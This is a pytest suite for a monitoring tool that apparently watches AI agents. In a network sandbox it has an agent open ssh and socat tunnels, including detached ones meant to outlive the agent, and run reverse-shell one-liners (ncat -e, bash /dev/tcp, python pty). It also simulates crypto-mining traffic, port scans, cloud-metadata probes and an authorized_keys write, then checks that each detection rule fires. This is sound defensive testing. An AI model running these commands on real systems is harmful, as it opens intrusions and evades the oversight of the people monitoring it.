"""Each default detection, proven on the real tool in a network-namespace sandbox.

A scenario is one `agentwatch run --rules rules/ --events` (a module-scoped fixture) whose
agent, inside the "agent" namespace, does a few related things one after another; each
test checks one rule: its id, its MITRE technique, the pid of the process that really did
it (taken from the raw records of the same run) and the agent. Loading the BPF programs
costs seconds, so related behaviours share a run.
"""

from __future__ import annotations

import json
import shutil
import textwrap
from collections import Counter

import jsonschema
import pytest

from sandbox import DEMO, LOCAL_SERVICE_PORT, NET_IP, PY, REPO

pytestmark = pytest.mark.scenario


def assert_alert(run, rule: str, mitre: str, pids: set[int] | int) -> dict:
    """The first alert of `rule`: with `mitre`, by one of `pids`, for the run's agent."""
    pids = {pids} if isinstance(pids, int) else set(pids)
    assert pids, "the culprit process never ran (see the agent's output)"
    alerts = run.alerts_of(rule)
    assert alerts, f"no {rule} alert; the run raised:\n{run.describe()}\nagent output:\n{run.output[-2000:]}"
    by_culprit = [a for a in alerts if a["process"] and a["process"]["pid"] in pids]
    assert by_culprit, f"{rule} fired for pids {[a['process']['pid'] for a in alerts]}, expected one of {sorted(pids)}"
    alert = by_culprit[0]
    assert mitre in alert["mitre"], alert["mitre"]
    assert alert["agent"]["id"] == run.agent_id
    assert alert["agent"]["labels"].get("scenario")
    return alert


def ssh_with(*args: str):
    return lambda p: p["comm"] == "ssh" and all(a in p["argv"] for a in args)


def python_running(needle: str):
    return lambda p: p["comm"].startswith("python") and needle in " ".join(p["argv"])


def loopback_connects(run, port: int) -> list[dict]:
    return [r for r in run.events if r["type"] == "connect" and r["network"]["dport"] == port
            and r["network"]["daddr"] == "127.0.0.1"]


# --- tunnels in the foreground: ssh -R, ssh -L, ssh -D, a socat relay ----------------------------


@pytest.fixture(scope="module")
def tunnels(agentwatch, sshd, local_service, poker, relay_server, net):
    """ssh -N -R (used by a remote user), the same forward hidden in an -F config file, -L and -D
    held for two seconds, and a socat relay."""
    poker(2201)
    poker(2204)
    hidden = net.tmp / "ssh" / "config-with-forward"
    hidden.write_text(sshd.config.read_text() + f"  RemoteForward 2204 127.0.0.1:{local_service}\n")
    host, port = relay_server
    remote = " ".join(sshd.ssh("-N", "-R", f"2201:127.0.0.1:{local_service}", f"root@{NET_IP}"))
    config = f"ssh -F {hidden} -N root@{NET_IP}"
    local = " ".join(sshd.ssh("-N", "-L", "127.0.0.1:9000:127.0.0.1:80", f"root@{NET_IP}"))
    socks = " ".join(sshd.ssh("-N", "-D", "1080", f"root@{NET_IP}"))
    relay = f"timeout 5 socat TCP:{host}:{port} TCP:127.0.0.1:{local_service}"
    exposed = f"socat TCP-LISTEN:9100,bind=127.0.0.1,fork TCP:{NET_IP}:80"
    proxied = " ".join(sshd.ssh("-o", "'ProxyCommand=ncat %h %p'", f"root@{NET_IP}", "true"))
    script = (f"{remote} & r=$!; {config} & c=$!; {local} & l=$!; {socks} & d=$!; {relay} & "
              f"{exposed} & e=$!; {proxied}; sleep 2; kill $r $c $l $d $e; wait")
    return agentwatch(["sh", "-c", script], labels={"scenario": "tunnels"})


def test_ssh_dash_R_is_a_reverse_tunnel(tunnels):
    [ssh] = tunnels.pids_that_exec(ssh_with("-R"))
    alert = assert_alert(tunnels, "ssh-remote-forward", "T1572", ssh)
    assert alert["severity"] == "high"
    assert alert["process"]["ancestry"][0]["pid"] == alert["agent"]["root_pid"]  # the agent's sh ran it
    assert_alert(tunnels, "ssh-tunnel-only-session", "T1572", ssh)


def test_ssh_dash_R_tunnel_behaviour(tunnels):
    """The remote user's connections come back down the tunnel: ssh connects to the agent's own server."""
    [ssh] = tunnels.pids_that_exec(ssh_with("-R"))
    alert = assert_alert(tunnels, "reverse-tunnel-behaviour", "T1572", ssh)
    first, last = alert["evidence"][0], alert["evidence"][-1]
    assert first["type"] == "connection" and first["network"]["daddr"] == NET_IP
    assert first["connection"]["state"] == "established"
    assert last["type"] == "connect" and last["network"]["dport"] == LOCAL_SERVICE_PORT
    assert last["network"]["scope"] == "loopback"


def test_ssh_forward_hidden_in_a_config_file(tunnels):
    """argv shows no -R: the -N session is flagged, and the behaviour proves the reverse tunnel."""
    [ssh] = tunnels.pids_that_exec(lambda p: p["comm"] == "ssh" and "config-with-forward" in " ".join(p["argv"]))
    assert not [a for a in tunnels.alerts_of("ssh-remote-forward") if a["process"]["pid"] == ssh]
    assert assert_alert(tunnels, "ssh-tunnel-only-session", "T1572", ssh)["severity"] == "medium"
    assert_alert(tunnels, "reverse-tunnel-behaviour", "T1572", ssh)


def test_ssh_local_forward(tunnels):
    ssh = tunnels.pids_that_exec(ssh_with("-L"))
    assert_alert(tunnels, "ssh-port-forward", "T1572", ssh)
    assert_alert(tunnels, "ip-port-to-ip-port-argv", "T1572", ssh)


def test_ssh_through_a_proxy_command(tunnels):
    """ssh -o ProxyCommand=ncat: ssh is flagged, and ncat gives itself away by writing the SSH banner."""
    assert_alert(tunnels, "ssh-proxy-command", "T1572", tunnels.pids_that_exec(ssh_with("ProxyCommand=ncat %h %p")))
    ncat = tunnels.pids_that_exec(lambda p: p["comm"] == "ncat")
    alert = assert_alert(tunnels, "ssh-banner-from-non-ssh-binary", "T1572", ncat)
    assert alert["evidence"][-1]["payload"]["text"].startswith("SSH-2.0-OpenSSH")


def test_socat_exposes_a_port(tunnels):
    exposed = tunnels.pids_that_exec(lambda p: p["comm"] == "socat" and "TCP-LISTEN:9100" in " ".join(p["argv"]))
    assert_alert(tunnels, "socat-listen-relay", "T1572", exposed)


def test_ssh_socks_proxy(tunnels):
    assert_alert(tunnels, "ssh-dynamic-forward", "T1090", tunnels.pids_that_exec(ssh_with("-D")))


def test_socat_reverse_relay(tunnels):
    [socat] = tunnels.pids_that_exec(lambda p: p["comm"] == "socat" and "TCP:198.18.0.1:7001" in p["argv"])
    assert_alert(tunnels, "socat-reverse-relay", "T1572", socat)
    alert = assert_alert(tunnels, "reverse-tunnel-behaviour", "T1572", socat)
    assert alert["evidence"][0]["network"]["dport"] == 7001


def test_only_the_tunnels_are_flagged(tunnels):
    """ssh -L and -D are tunnels too, but no reverse-tunnel alert names them: nothing came back through."""
    innocent = tunnels.pids_that_exec(ssh_with("-L")) | tunnels.pids_that_exec(ssh_with("-D"))
    assert not [a for a in tunnels.alerts_of("reverse-tunnel-behaviour") if a["process"]["pid"] in innocent]


# --- tunnels that outlive the agent: ssh -f and autossh -f ----------------------------------------


@pytest.fixture(scope="module")
def background_tunnels(agentwatch, sshd, local_service, poker):
    """ssh -f forks and the parent exits; autossh -f daemonises and keeps an ssh -R child."""
    poker(2202)
    poker(2203)
    ssh = " ".join(sshd.ssh("-f", "-N", "-R", f"2202:127.0.0.1:{local_service}", f"root@{NET_IP}"))
    autossh = f"autossh -M 0 -f -N -R 2203:127.0.0.1:{local_service} -F {sshd.config} root@{NET_IP}"
    later = "sh -c 'sleep 0.5; exec /bin/true detached' &"  # runs on after the agent's sh is gone
    return agentwatch(["sh", "-c", f"{ssh} && {autossh} && {later}"], linger=3,
                      labels={"scenario": "background-tunnels"})


def _tunnel_child(run, exec_pid: int) -> dict:
    """The process that carried the tunnel of `exec_pid` (itself, or a child it forked)."""
    for r in loopback_connects(run, LOCAL_SERVICE_PORT):
        p = r["process"]
        if p["pid"] == exec_pid or exec_pid in [a["pid"] for a in p["ancestry"]]:
            return p
    raise AssertionError(f"the tunnel of pid {exec_pid} was never used")


def test_ssh_background_tunnel_still_belongs_to_the_agent(background_tunnels):
    run = background_tunnels
    [ssh] = run.pids_that_exec(ssh_with("-f", "-R"))
    assert_alert(run, "ssh-remote-forward", "T1572", ssh)
    # The tunnel is the forked child, reparented away from the agent; its loopback connects
    # are still the agent's and still lead back to the ssh that the agent ran.
    child = _tunnel_child(run, ssh)
    assert child["pid"] != ssh and child["ppid"] != ssh
    alert = assert_alert(run, "reverse-tunnel-behaviour", "T1572", child["pid"])
    assert alert["evidence"][0]["process"]["pid"] == ssh


def test_ssh_background_tunnel_is_reported_as_an_escape(background_tunnels):
    run = background_tunnels
    [ssh] = run.pids_that_exec(ssh_with("-f", "-R"))
    child = _tunnel_child(run, ssh)
    alert = assert_alert(run, "detached-process-connects", "T1036.009", child["pid"])
    assert alert["process"]["ppid"] != alert["process"]["ancestry"][0]["pid"]
    [survived] = run.alerts_of("agent-descendant-survives-root")
    assert "T1036.009" in survived["mitre"] and survived["agent"]["id"] == run.agent_id
    assert child["pid"] in run.survivors()


def test_detached_exec(background_tunnels):
    run = background_tunnels
    alert = assert_alert(run, "detached-process-exec", "T1036.009",
                         run.pids_that_exec(lambda p: p["argv"] == ["/bin/true", "detached"]))
    assert alert["severity"] == "low"


def test_autossh(background_tunnels):
    run = background_tunnels
    assert_alert(run, "autossh", "T1572", run.pids_that_exec(lambda p: p["comm"] == "autossh"))
    [ssh] = run.pids_that_exec(lambda p: p["comm"] == "ssh" and "2203:127.0.0.1:8000" in p["argv"])
    alert = assert_alert(run, "ssh-remote-forward", "T1572", ssh)
    assert "autossh" in [a["comm"] for a in alert["process"]["ancestry"]]
    assert_alert(run, "reverse-tunnel-behaviour", "T1572", _tunnel_child(run, ssh)["pid"])


# --- reverse shells -----------------------------------------------------------------------------


@pytest.fixture(scope="module")
def reverse_shells(agentwatch, attacker):
    """ncat -e, bash /dev/tcp and a python pty one-liner, each to the attacker's listener (which says exit)."""
    host, port = attacker
    py = (f"import socket,os,pty;s=socket.socket();s.connect((\"{host}\",{port}));"
          "[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"/bin/sh\")")
    script = "; ".join([
        f"ncat {host} {port} -e /bin/sh",
        f"socat TCP:{host}:{port} EXEC:/bin/sh",
        f"bash -c 'bash -i >& /dev/tcp/{host}/{port} 0>&1'",
        f"{PY} -c '{py}'",
    ])
    return agentwatch(["sh", "-c", script], labels={"scenario": "reverse-shells"})


def test_ncat_dash_e(reverse_shells):
    run = reverse_shells
    [ncat] = run.pids_that_exec(lambda p: p["comm"] == "ncat")
    assert_alert(run, "netcat-exec", "T1059.004", ncat)
    shells = run.pids_that_exec(lambda p: p["argv"] == ["/bin/sh"] and p["ancestry"][0]["pid"] == ncat)
    alert = assert_alert(run, "shell-after-network-tool-connect", "T1059.004", shells)
    assert alert["evidence"][0]["process"]["pid"] == ncat


def test_socat_exec(reverse_shells):
    socat = reverse_shells.pids_that_exec(lambda p: p["comm"] == "socat")
    assert_alert(reverse_shells, "socat-exec", "T1059.004", socat)


def test_bash_dev_tcp_by_argv(reverse_shells):
    run = reverse_shells
    outer = run.pids_that_exec(lambda p: p["argv"][:2] == ["bash", "-c"] and "/dev/tcp/" in p["argv"][2])
    assert_alert(run, "reverse-shell-dev-tcp", "T1059.004", outer)


def test_bash_dev_tcp_by_behaviour(reverse_shells):
    """The kernel's view, whatever argv says: a bash connects out, then the same pid execs bash -i."""
    run = reverse_shells
    [shell] = run.pids_that_exec(lambda p: p["argv"] == ["bash", "-i"])
    alert = assert_alert(run, "reverse-shell-connect-then-exec", "T1059.004", shell)
    assert alert["evidence"][0]["type"] == "connect" and alert["evidence"][0]["process"]["pid"] == shell


def test_python_pty_one_liner(reverse_shells):
    run = reverse_shells
    assert_alert(run, "interpreter-reverse-shell", "T1059.004", run.pids_that_exec(python_running("pty.spawn")))


# --- mining -------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def miners(agentwatch, pool, net):
    """The fake miner on 3333 and on 443 (xmrig and cpuminer dialects), then a binary named xmrig."""
    xmrig = net.tmp / "bin" / "xmrig"  # a copy of sleep: it only has to be started with xmrig's flags
    xmrig.parent.mkdir(exist_ok=True)
    shutil.copy("/bin/sleep", xmrig)
    miner = f"{PY} {DEMO / 'fake_miner.py'}"
    script = "; ".join([
        f"{miner} {pool} 3333",
        f"{miner} {pool} 443",
        f"{miner} --dialect cpuminer {pool} 443",
        f"{xmrig} -o stratum+tcp://{pool}:3333 -u wallet --donate-level 1",
    ])
    return agentwatch(["sh", "-c", script], labels={"scenario": "miners"})


def _miner_pids(run, *args: str) -> set[int]:
    return run.pids_that_exec(lambda p: "fake_miner.py" in " ".join(p["argv"]) and p["argv"][-len(args):] == list(args))


def test_stratum_on_the_classic_port(miners):
    py = _miner_pids(miners, NET_IP, "3333")
    alert = assert_alert(miners, "stratum-protocol", "T1496", py)
    assert alert["severity"] == "critical" and alert["network"]["dport"] == 3333
    assert '"method":"login"' in alert["evidence"][-1]["payload"]["text"]
    assert_alert(miners, "pool-port-external", "T1496", py)


@pytest.mark.parametrize("dialect", ["xmrig", "cpuminer"])
def test_stratum_on_443(miners, dialect):
    """Pools listen on 443 to pass egress filters: only the bytes give it away."""
    pids = miners.pids_that_exec(lambda p: "fake_miner.py" in " ".join(p["argv"]) and p["argv"][-1] == "443"
                                 and ("--dialect" in p["argv"]) == (dialect == "cpuminer"))
    alert = assert_alert(miners, "stratum-protocol", "T1496", pids)
    assert alert["network"]["dport"] == 443
    assert not [a for a in miners.alerts_of("pool-port-external") if a["process"]["pid"] in pids]


@pytest.mark.parametrize("rule", ["miner-binary-name", "stratum-url-argv", "miner-flags"])
def test_miner_named_binary_with_pool_flags(miners, rule):
    [xmrig] = miners.pids_that_exec(lambda p: p["comm"] == "xmrig")
    assert_alert(miners, rule, "T1496", xmrig)


# --- probing, and what goes over the wire -------------------------------------------------------

SCAN = textwrap.dedent("""\
    import socket
    for port in range(1, 101):
        s = socket.socket()
        s.settimeout(0.2)
        s.connect_ex(("127.0.0.1", port))
        s.close()
""")
SWEEP = textwrap.dedent("""\
    import socket
    socks = []
    for host in range(1, 31):
        s = socket.socket()
        s.setblocking(False)
        s.connect_ex(("10.99.0.%d" % host, 22))
        socks.append(s)
""")
METADATA = textwrap.dedent("""\
    import socket
    s = socket.socket()
    s.setblocking(False)
    s.connect_ex(("169.254.169.254", 80))
""")
EXTERNAL_SCAN = SCAN.replace("127.0.0.1", "198.18.0.1").replace("range(1, 101)", "range(1000, 1060)")
DNS_QUERIES = textwrap.dedent("""\
    import socket, struct
    def query(name):
        q = struct.pack(">HHHHHH", 0x1234, 0x0100, 1, 0, 0, 0)
        q += b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\\0"
        return q + struct.pack(">HH", 1, 1)
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    for name in ("quick-fox.trycloudflare.com", "pool.supportxmr.com", "metadata.google.internal"):
        s.sendto(query(name), ("198.18.0.1", 53))
""")
TLS_HELLOS = textwrap.dedent("""\
    import socket, ssl
    ctx = ssl.create_default_context()
    for sni in ("quick-fox.trycloudflare.com", "gulf.moneroocean.stream"):
        try:
            with socket.create_connection(("198.18.0.1", 443), timeout=2) as raw:
                ctx.wrap_socket(raw, server_hostname=sni)
        except (OSError, ssl.SSLError):
            pass
""")
CHISEL_HANDSHAKE = textwrap.dedent("""\
    import socket
    s = socket.create_connection(("198.18.0.1", 80), timeout=2)
    s.sendall(b"GET / HTTP/1.1\\r\\nHost: 198.18.0.1\\r\\nUpgrade: websocket\\r\\nConnection: Upgrade\\r\\n"
              b"Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\\r\\nSec-WebSocket-Protocol: chisel-v3\\r\\n"
              b"Sec-WebSocket-Version: 13\\r\\n\\r\\n")
    s.recv(64)
""")
QUIC_EDGE = textwrap.dedent("""\
    import socket
    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    u.connect(("198.18.0.1", 7844))
    u.send(b"\\xc0quic-initial")
""")
PARAMIKO_LIKE = textwrap.dedent("""\
    import socket
    s = socket.create_connection(("198.18.0.1", 22), timeout=3)
    s.sendall(b"SSH-2.0-paramiko_3.4.0\\r\\n")
    s.recv(64)
""")


@pytest.fixture(scope="module")
def probes(agentwatch, sshd, pool, web, net):
    """Scans, a host sweep, the metadata address; DNS names and TLS SNIs of a tunnel service and a
    pool; a chisel handshake; QUIC to cloudflared's edge port; SSH spoken by python, on 8443 and
    on 2222; bash /dev/tcp; tools by name and argv shape; a key added to authorized_keys."""
    bin_ = net.tmp / "bin"
    bin_.mkdir(exist_ok=True)
    for name in ("chisel", "svc", "nmap"):  # copies of true: only their names and argv matter
        shutil.copy("/bin/true", bin_ / name)
    codes = (SCAN, SWEEP, METADATA, EXTERNAL_SCAN, DNS_QUERIES, TLS_HELLOS, CHISEL_HANDSHAKE, QUIC_EDGE,
             PARAMIKO_LIKE)
    script = "; ".join([f"{PY} -c '{code}'" for code in codes] + [
        " ".join(sshd.ssh("-p", "8443", f"root@{NET_IP}", "true")),
        " ".join(sshd.ssh("-p", "2222", f"root@{NET_IP}", "true")),
        f"bash -c 'echo hi > /dev/tcp/{NET_IP}/80'",
        f"{bin_ / 'chisel'} client {NET_IP}:80 R:2222:127.0.0.1:22",
        f"{bin_ / 'svc'} client {NET_IP}:80 R:2222:127.0.0.1:22",
        f"{bin_ / 'nmap'} -sT -p 1-1024 10.99.0.0/24",
        "mkdir -p $HOME/.ssh && echo ssh-ed25519 AAAAC3Nza test >> $HOME/.ssh/authorized_keys",
    ])
    return agentwatch(["sh", "-c", script], labels={"scenario": "probes"})


def test_port_scan_of_100_ports(probes):
    alert = assert_alert(probes, "internal-port-scan", "T1046", probes.pids_that_exec(python_running("range(1, 101)")))
    assert alert["count"] >= 50 and alert["evidence"]


def test_host_sweep(probes):
    assert_alert(probes, "internal-host-sweep", "T1046", probes.pids_that_exec(python_running("10.99.0.")))


def test_cloud_metadata(probes):
    alert = assert_alert(probes, "cloud-metadata-access", "T1552.005",
                         probes.pids_that_exec(python_running("169.254.169.254")))
    assert alert["network"]["scope"] == "metadata"


def test_tunnel_and_pool_names_in_dns(probes):
    py = probes.pids_that_exec(python_running("trycloudflare"))
    alert = assert_alert(probes, "tunnel-service-dns", "T1572", py)
    assert alert["evidence"][-1]["dns"]["query"] == "quick-fox.trycloudflare.com"
    alert = assert_alert(probes, "mining-pool-dns", "T1496", py)
    assert alert["evidence"][-1]["dns"]["query"] == "pool.supportxmr.com"


def test_ssh_banner_from_python(probes):
    assert_alert(probes, "ssh-banner-from-non-ssh-binary", "T1572", probes.pids_that_exec(python_running("paramiko")))


def test_ssh_on_a_web_port(probes):
    alert = assert_alert(probes, "ssh-banner-on-disguised-port", "T1572", probes.pids_that_exec(ssh_with("8443")))
    assert alert["network"]["dport"] == 8443


def test_whole_agent_scan(probes):
    scanners = probes.pids_that_exec(python_running("range(1, 101)"))
    scanners |= probes.pids_that_exec(python_running("10.99.0."))
    alert = assert_alert(probes, "agent-internal-scan", "T1046", scanners)
    assert alert["count"] >= 100 and alert["involved"]["by"] == "agent"


def test_external_port_scan(probes):
    assert_alert(probes, "external-port-scan", "T1046", probes.pids_that_exec(python_running("range(1000, 1060)")))


def test_metadata_name_in_dns(probes):
    resolver = probes.pids_that_exec(python_running("metadata.google"))
    alert = assert_alert(probes, "cloud-metadata-dns", "T1552.005", resolver)
    assert alert["evidence"][-1]["dns"]["query"] == "metadata.google.internal"


@pytest.mark.parametrize("rule, mitre", [("tunnel-service-tls", "T1572"), ("mining-pool-tls", "T1496")])
def test_tls_server_names(probes, rule, mitre):
    alert = assert_alert(probes, rule, mitre, probes.pids_that_exec(python_running("server_hostname")))
    assert alert["evidence"][-1]["payload"]["text"].startswith("\\x16\\x03")


def test_chisel_handshake(probes):
    assert_alert(probes, "chisel-websocket-handshake", "T1572", probes.pids_that_exec(python_running("chisel-v3")))


def test_cloudflared_edge_port(probes):
    alert = assert_alert(probes, "cloudflared-edge-port", "T1572", probes.pids_that_exec(python_running("7844")))
    assert alert["network"]["protocol"] == "udp"


def test_ssh_on_an_unusual_port(probes):
    alert = assert_alert(probes, "ssh-banner-unusual-port", "T1572", probes.pids_that_exec(ssh_with("2222")))
    assert alert["severity"] == "medium"


def test_dev_tcp_without_a_shell(probes):
    assert_alert(probes, "dev-tcp-connection", "T1059.004",
                 probes.pids_that_exec(lambda p: p["argv"][:2] == ["bash", "-c"] and "/dev/tcp/" in p["argv"][2]))
    assert not probes.alerts_of("reverse-shell-dev-tcp")


def test_tunnel_tools_by_name_and_by_argv(probes):
    chisel = probes.pids_that_exec(lambda p: p["comm"] == "chisel")
    renamed = probes.pids_that_exec(lambda p: p["comm"] == "svc")
    assert_alert(probes, "tunnel-tool", "T1572", chisel)
    assert_alert(probes, "tunnel-tool-argv", "T1572", chisel)
    assert_alert(probes, "tunnel-tool-argv", "T1572", renamed)
    assert not [a for a in probes.alerts_of("tunnel-tool") if a["process"]["pid"] in renamed]


def test_scanner_by_name(probes):
    assert_alert(probes, "network-scanner-tool", "T1046", probes.pids_that_exec(lambda p: p["comm"] == "nmap"))


def test_authorized_keys_write(probes):
    assert_alert(probes, "ssh-authorized-keys-write", "T1098.004",
                 probes.pids_that_exec(lambda p: "authorized_keys" in " ".join(p["argv"])))


# --- scans fanned out over one process per probe ------------------------------------------------

FAN_OUT_RULES = ("lineage-internal-scan", "lineage-internal-sweep", "lineage-external-scan", "agent-internal-scan",
                 "agent-internal-sweep", "agent-external-scan", "agent-external-sweep")


@pytest.fixture(scope="module")
def fan_out(agentwatch):
    """Three scans where every probe is its own short-lived process, one command after another:
    120 outside ports through `xargs -P 8 sh -c 'nc ...'`, 120 loopback ports from bash subshells
    (`(echo > /dev/tcp/...) &`), and 45 internal hosts through `xargs -P 16 nc`."""
    script = "; ".join([
        f"seq 1 120 | xargs -P 8 -I{{}} sh -c 'nc -nz -w1 {NET_IP} {{}}'",
        "bash -c 'for p in $(seq 1 120); do (echo > /dev/tcp/127.0.0.1/$p) 2>/dev/null & done; wait'",
        "seq 1 45 | xargs -P 16 -I{} nc -nz -w1 10.99.0.{} 22",
    ])
    return agentwatch(["sh", "-c", script], labels={"scenario": "fan-out"})


def _probes_under(run, ancestor: int) -> dict[int, dict]:
    """The connect records' processes that descend from `ancestor`, by pid."""
    return {r["process"]["pid"]: r["process"] for r in run.events if r["type"] == "connect"
            and ancestor in [a["pid"] for a in r["process"]["ancestry"]]}


def _assert_fan_out(run, rule: str, top: int, least: int) -> dict:
    """`rule` names `top` (the probes' common ancestor) as the culprit and lists probes from under it."""
    alert = assert_alert(run, rule, "T1046", top)
    probes = _probes_under(run, top)
    inv = alert["involved"]
    assert inv["ancestor"]["pid"] == top and alert["process"]["key"].startswith(f"{top}:")
    assert inv["count"] >= least and inv["more"] == inv["count"] - len(inv["processes"])
    assert {p["pid"] for p in inv["processes"]} <= set(probes), inv["processes"]
    assert {e["process"]["pid"] for e in alert["evidence"]} <= set(probes)
    jsonschema.validate(alert, json.loads((REPO / "docs" / "event.schema.json").read_text()))
    return alert


def test_fan_out_stays_under_the_per_process_rules(fan_out):
    """Each probe is a process of its own: no process comes near a per-process count (20 hosts, 50 ports)."""
    per_process = Counter(r["process"]["key"] for r in fan_out.events if r["type"] == "connect")
    assert len(per_process) >= 250 and max(per_process.values()) < 20
    for rule in ("internal-port-scan", "internal-host-sweep", "external-port-scan"):
        assert not fan_out.alerts_of(rule), fan_out.describe()


def test_fan_out_scan_of_outside_ports(fan_out):
    [xargs] = fan_out.pids_that_exec(lambda p: p["comm"] == "xargs" and NET_IP in " ".join(p["argv"]))
    alert = _assert_fan_out(fan_out, "agent-external-scan", xargs, 90)
    assert alert["count"] == 100 and alert["process"]["argv"][:3] == ["xargs", "-P", "8"]
    assert alert["message"].startswith(f"the agent scans outside ports from many processes under xargs (pid {xargs})")
    alert = _assert_fan_out(fan_out, "lineage-external-scan", xargs, 45)
    assert alert["count"] == 50 and alert["involved"]["by"] == "lineage"


def test_fan_out_scan_from_bash_subshells(fan_out):
    """Subshells fork without exec: each probe is a bash, the loop's bash is the culprit."""
    [loop] = fan_out.pids_that_exec(lambda p: p["argv"][:2] == ["bash", "-c"] and "/dev/tcp/127.0.0.1" in p["argv"][2])
    for rule in ("agent-internal-scan", "lineage-internal-scan"):
        alert = _assert_fan_out(fan_out, rule, loop, 45)
        assert {p["comm"] for p in alert["involved"]["processes"]} == {"bash"}


def test_fan_out_sweep_of_internal_hosts(fan_out):
    [xargs] = fan_out.pids_that_exec(lambda p: p["comm"] == "xargs" and "10.99.0.{}" in p["argv"])
    _assert_fan_out(fan_out, "lineage-internal-sweep", xargs, 18)
    alert = _assert_fan_out(fan_out, "agent-internal-sweep", xargs, 36)
    assert alert["count"] == 40


def test_fan_out_rules_fire_once_per_scan(fan_out):
    for rule in FAN_OUT_RULES:
        if rule != "agent-external-sweep":  # one outside host: not a sweep
            assert len(fan_out.alerts_of(rule)) == 1, f"{rule}:\n{fan_out.describe()}"
    assert not fan_out.alerts_of("agent-external-sweep")
